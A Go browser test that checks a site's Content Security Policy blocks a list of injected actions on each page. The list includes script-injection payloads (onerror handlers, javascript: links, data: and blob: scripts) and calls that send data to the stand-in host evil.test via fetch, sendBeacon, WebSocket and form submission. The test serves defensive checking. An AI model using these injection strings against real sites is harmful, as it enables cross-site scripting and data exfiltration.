package main

import (
	"strings"
	"testing"
)

// forbidden is what a string could do if it got out of its place, and the part
// of the policy that stops it.
var forbidden = []struct{ directive, do string }{
	{"script-src-elem", `add("script", { textContent: "window.ran = true" })`},
	{"script-src-elem", `add("script", { src: evil + "x.js" })`},
	{"script-src-elem", `add("script", { src: "data:text/javascript,ran=true" })`},
	{"script-src-elem", `add("script", { src: URL.createObjectURL(new Blob(["ran=true"])) })`},
	{"script-src-elem", `add("a", { href: "javascript:void(ran=true)" }).click()`},
	{"script-src-attr", `html("<img src=data: onerror=ran=true>")`},
	{"script-src-attr", `html("<button onclick=ran=true></button>"); document.body.lastChild.click()`},
	{"style-src-elem", `add("style", { textContent: "body{display:none}" })`},
	{"style-src-elem", `add("link", { rel: "stylesheet", href: evil + "x.css" })`},
	{"style-src-attr", `html("<p style=position:fixed>")`},
	{"img-src", `add("img", { src: evil + "a.gif" })`},
	{"img-src", `html("<svg><image href='" + evil + "b.gif'></svg>")`},
	{"media-src", `add("video", { src: evil + "v" })`},
	{"font-src", `new FontFace("x", "url(" + evil + "f)").load().catch(() => {})`},
	{"object-src", `add("object", { data: evil + "o" })`},
	{"frame-src", `add("iframe", { src: "http://evil.test/" })`},
	{"frame-src", `add("iframe", { src: "data:text/html,x" })`},
	{"worker-src", `try { new Worker(URL.createObjectURL(new Blob(["1"]))) } catch (e) {}`},
	{"connect-src", `fetch(evil).catch(() => {})`},
	{"connect-src", `fetch(location.href).catch(() => {})`},
	{"connect-src", `try { new WebSocket("wss://evil.test/") } catch (e) {}`},
	{"connect-src", `navigator.sendBeacon(evil, "x")`},
	{"base-uri", `add("base", { href: evil })`},
	{"form-action", `add("form", { action: evil, target: "elsewhere" }).submit()`},
}

// TestPolicy: on a page of every kind the policy would stop what a string could
// do, should one ever get out of its place.
func TestPolicy(t *testing.T) {
	t.Parallel()
	b := newTab(t)
	b.expect("Content Security Policy")
	b.expect("net::ERR")
	b.expect("status of 404")
	site := serveMissing(t, attackedSite(t, true), "/repo/")
	for _, p := range []string{
		"index.html", "apps/a3.html", "apps/a3/w.html", "apps/a3/definition.html", "apps/a3/diff/index.html", "report.html", "review.html",
		"rules/index.html", "404.html",
	} {
		b.open(site + p)
		b.settled()
		b.run(`window.evil = "https://evil.test/policy/";
			window.add = (name, more) => { const e = Object.assign(document.createElement(name), more); document.body.append(e); return e };
			window.html = text => { document.body.append(document.createRange().createContextualFragment(text)) };
			document.addEventListener("securitypolicyviolation", e => { window.stopped.push(e.effectiveDirective) });`)
		for _, f := range forbidden {
			b.run(`window.stopped = []; ` + f.do)
			if !b.soon(`stopped.length`, slow/30) {
				t.Errorf("%s: nothing stopped %s", p, f.do)
				break // the others would be waited for as long
			} else if got := eval[string](b, `stopped.join(" ")`); !strings.Contains(got, f.directive) {
				t.Errorf("%s: %s was stopped by %s, want %s", p, f.do, got, f.directive)
			}
		}
		if eval[bool](b, `"ran" in window`) {
			t.Errorf("%s: a script ran", p)
		}
	}
	if n := outside.asked("evil.test"); n > 0 {
		t.Errorf("%d requests to others", n)
	}
}
